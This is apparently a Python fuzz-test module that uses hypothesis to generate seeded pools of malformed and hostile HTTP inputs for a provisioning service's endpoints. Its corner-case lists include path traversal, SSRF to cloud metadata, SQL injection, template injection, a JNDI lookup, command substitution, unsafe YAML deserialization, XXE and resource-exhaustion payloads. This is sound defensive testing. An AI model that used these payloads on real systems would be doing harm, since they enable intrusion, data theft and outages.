"""What is thrown at the endpoints: drawn by hypothesis from a seed, beside corners that hurt."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any, TypeVar

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

__all__ = ["HEADERS", "QUERIES", "TYPES", "Pools", "drawn", "pools"]

T = TypeVar("T")

_LONG = 20_000
CORNERS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\ud800",
    "a\udfffb",
    "\r\nX-Injected: 1",
    "a\nb\n\nc",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%",
    "%zz",
    "%ff%fe",
    "%c0%ae%c0%ae/",
    "%25%32%65",
    "....//....//",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "' OR 1=1 --",
    "'; DROP TABLE host; --",
    "1); SELECT pg_sleep(5); --",
    "\\x00",
    "{{ 7 * 7 }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:ldap://192.0.2.1/a}",
    "$(reboot)",
    "`reboot`",
    "%s%n%x",
    "%(password)s",
    "{0.__class__}",
    "<script>alert(1)</script>",
    "&xxe;",
    "!!python/object/apply:os.system ['reboot']",
    "NaN",
    "Infinity",
    "-1",
    "0",
    "1e400",
    "9" * 400,
    "9223372036854775808",
    "-9223372036854775809",
    "0x7fffffff",
    "٣",
    "²",
    "true",
    "null",
    "[]",
    "{}",
    "ᄀ" * 300,
    "e\u0301" * 200,
    "\u202egnp.exe",
    "\ufeff",
    "\U0001d568\U0001d556\U0001d553\U0001d7d9.example.org",
    "\uff57\uff45\uff42\uff11.example.org",
    "xn--" + "a" * 80,
    "ß.example.org",
    "İstanbul",
    "." * 300,
    "a" * 64 + ".example.org",
    "-oProxyCommand=reboot",
    "52:54:00:aa:bb",
    "52:54:00:aa:bb:zz",
    "ff:ff:ff:ff:ff:ff",
    "01:00:5e:00:00:01",
    "52-54-00-AA-BB-01-02",
    "192.0.2.256",
    "192.0.2.0/24",
    "::ffff:192.0.2.1",
    "fe80::1%eth0",
    "0.0.0.0",
    "١٩٢.0.2.1",
    "010.0.2.1",
    "token,token",
    "A" * _LONG,
    "é" * _LONG,
)
"""Of text; each is somebody's bug of some day."""

TYPES = (
    "application/json",
    "application/json; charset=utf-16",
    "application/json; charset=\xff",
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=nonsense",
    "multipart/form-data",
    "multipart/form-data; boundary=x",
    "multipart/form-data; boundary=" + "x" * 500,
    'multipart/form-data; boundary="',
    "text/plain",
    "application/yaml",
    "application/octet-stream",
    "application/xml",
    "x/y; charset=nonsense; charset=more",
    "",
    ";;;",
    "\xfe\xff",
)
HEADERS = (
    *("accept", "accept-encoding", "accept-language", "authorization", "cookie", "expect", "host"),
    *("content-length", "content-encoding", "transfer-encoding", "range", "if-modified-since"),
    *("if-none-match", "if-range", "x-forwarded-for", "forwarded", "x-forwarded-proto"),
    *("x-rhn-provisioning-mac-0", "x-rhn-provisioning-mac-1", "x_rhn_provisioning_mac_0"),
    *("x-client-cert", "x-ssl-client-dn", "x-client-verify", "cp-user", "cp-consumer"),
    *("x-correlation-id", "want-repr-digest", "user-agent", "x-http-method-override", "origin"),
    *("sec-websocket-key", "upgrade", "content-disposition", "x-" + "h" * 300),
)
QUERIES = (
    *("token", "mac", "format", "owner", "activation_keys", "from", "to", "from_timestamp", "url"),
    *("bmc_provider", "persistent", "reboot", "static", "include", "page", "q", "limit", "_method"),
)


@dataclass(frozen=True)
class Pools:
    """Drawn once for a seed; requests are put together from them."""

    texts: list[str]
    queries: list[bytes]
    """Raw query strings."""
    documents: list[bytes]
    """JSON and what nearly is."""
    forms: list[bytes]
    """Of forms in both encodings, and what nearly is."""
    blobs: list[bytes]
    """Anything, large things too."""


def drawn(strategy: st.SearchStrategy[T], count: int, number: int) -> list[T]:
    """So many values of a strategy, the same for the same seed."""
    found: list[T] = []

    @seed(number)
    @settings(
        max_examples=count,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def keep(value: T) -> None:
        found.append(value)

    keep()
    return found


def pools(number: int, size: int) -> Pools:
    """Values of each kind."""
    texts = [*CORNERS, *drawn(_TEXTS, size, number)]
    return Pools(
        texts=texts,
        queries=[*_QUERY_CORNERS, *drawn(_QUERY, size, number + 1)],
        documents=[*_DOCUMENT_CORNERS, *drawn(_DOCUMENTS, size, number + 2)],
        forms=[*_FORM_CORNERS, *drawn(_FORMS, size, number + 3)],
        blobs=[*_BLOB_CORNERS, *drawn(st.binary(max_size=600), size, number + 4)],
    )


_ANY = st.characters(codec=None)
_TEXTS = st.one_of(
    st.text(_ANY, max_size=40),
    st.text(st.characters(max_codepoint=127), max_size=20),
    st.builds(lambda a, b: a + b, st.sampled_from(CORNERS[:-2]), st.text(_ANY, max_size=5)),
    st.integers().map(str),
    st.floats().map(str),
    st.ip_addresses().map(str),
    st.emails(),
    st.from_regex(r"[0-9a-fA-F]{2}([:.-][0-9a-fA-F]{2}){4,8}", fullmatch=True),
)
_QUERY = st.one_of(
    st.binary(max_size=100).map(lambda raw: bytes(one for one in raw if 0x21 <= one < 0x7F)),
    st.lists(
        st.tuples(st.sampled_from(QUERIES), st.sampled_from(("%00", "%ff", "+", "%", "a=b", "&"))),
        max_size=6,
    ).map(lambda pairs: "&".join(f"{name}={value}" for name, value in pairs).encode()),
)
_JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(_ANY, max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=12,
)
_DOCUMENTS = st.one_of(
    _JSON.map(lambda value: json.dumps(value).encode()),
    st.builds(lambda value, cut: json.dumps(value).encode()[:cut], _JSON, st.integers(0, 60)),
    st.builds(
        lambda value, name: json.dumps({name: value}).encode(),
        _JSON,
        st.sampled_from(
            ("facts", "config_report", "enabled_repos", "traces", "name", "stage", "values")
        ),
    ),
)
_NAMES = st.sampled_from(
    ("mac", "ip", "name", "hostname", "fqdn", "value", "type", "pxeconfig", "menu", "path")
)
_FORMS = st.one_of(
    st.lists(st.tuples(_NAMES, st.text(max_size=10)), max_size=5).map(
        lambda pairs: "&".join(f"{name}={value}" for name, value in pairs).encode()
    ),
    st.builds(
        lambda name, value: (
            f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value
        ),
        _NAMES,
        st.binary(max_size=60),
    ),
    st.binary(max_size=200).map(lambda raw: b"--x\r\n" + raw + b"\r\n--x--\r\n"),
)

_DEEP = 5000
_QUERY_CORNERS = [
    b"&".join(b"token=%d" % number for number in range(50)),
    b"&" * 3000,
    b"=" * 3000,
    b"mac=%00&mac=%ff&token=%00",
    b"token=" + b"%ff" * 15_000,
    b"x=" + b"y" * 40_000,
    b"token[]=a&token[b]=c&mac[$ne]=1",
    b"format=yml&format=json",
    b"from_timestamp=nan",
    b"from_timestamp=-inf",
    b"from_timestamp=1e999",
]
_DOCUMENT_CORNERS = [
    b"[" * _DEEP + b"]" * _DEEP,
    b'{"a":' * _DEEP + b"1" + b"}" * _DEEP,
    b'{"facts":' * _DEEP,
    b'{"facts":{"discovery_bootif":' + b"[" * 900 + b"]" * 900 + b"}}",
    b"NaN",
    b"[Infinity, -Infinity, 1e999]",
    b"1" * 5000,
    b'{"facts": {"a": ' + b"9" * 5000 + b"}}",
    b'{"stage": "\\u0000"}',
    b'{"stage": "\\ud800", "detail": 1}',
    b'{"a": 1, "a": 2, "a": {"a": []}}',
    b'\xef\xbb\xbf{"facts": {}}',
    b'{"facts": {}}'.decode().encode("utf-16"),
    b'{"facts": {"discovery_bootif": null}}',
    b'{"facts": {"discovery_bootif": "52:54:00:00:00:01", "interfaces": 7}}',
    b'{"facts": "\xff\xfe"}',
    b'"' + b"a" * 200_000 + b'"',
    b"[" + b"1," * 50_000 + b"1]",
]
_FORM_CORNERS = [
    b"mac=%00&ip=%ff&name=%d8%00",
    b"&" * 2000,
    b"a=b&" * 900,
    b"--x\r\nContent-Disposition: form-data\r\n\r\nv\r\n--x--\r\n",
    b'--x\r\nContent-Disposition: form-data; name="mac"; filename="a\0b"\r\n\r\nv\r\n--x--\r\n',
    b'--x\r\nContent-Disposition: form-data; name="mac"\r\nContent-Disposition: x\r\n\r\n\r\n--x',
    b"--x\r\nContent-Disposition: form-data; name*=utf-8''%ff\r\n\r\nv\r\n--x--\r\n",
    b"--x\r\n" + b"A: b\r\n" * 500 + b"\r\n\r\n--x--",
    b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + b"\xff" * 5000 + b"\r\n--x--\r\n",
    b"".join(
        b'--x\r\nContent-Disposition: form-data; name="a%d"\r\n\r\nv\r\n' % number
        for number in range(1100)
    )
    + b"--x--\r\n",
]
_YAML = b"a: &a [x,x,x,x,x,x,x,x,x]\n"
_BLOB_CORNERS = [
    b"",
    b"\0" * 5000,
    b"\xff\xfe" * 3000,
    b"-----BEGIN CERTIFICATE REQUEST-----\n" + b"A" * 3000,
    b"-----BEGIN CERTIFICATE REQUEST-----\nMIIB\n-----END CERTIFICATE REQUEST-----\n",
    b"--- !ruby/object:Puppet::Transaction::Report\nhost: [\n",
    b"--- !!python/object/apply:os.system ['true']\n",
    _YAML
    + b"".join(
        b"%c: &%c [%s]\n" % (one, one, b",".join([b"*%c" % (one - 1)] * 9))
        for one in range(ord("b"), ord("j"))
    ),
    b"- " * 3000,
    b"{" * 3000,
    b"? " * 2000,
    b"&a " * 1000,
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
    b"\x1f\x8b\x08\x00" + b"\0" * 100,
    b"x" * 70_000,
]
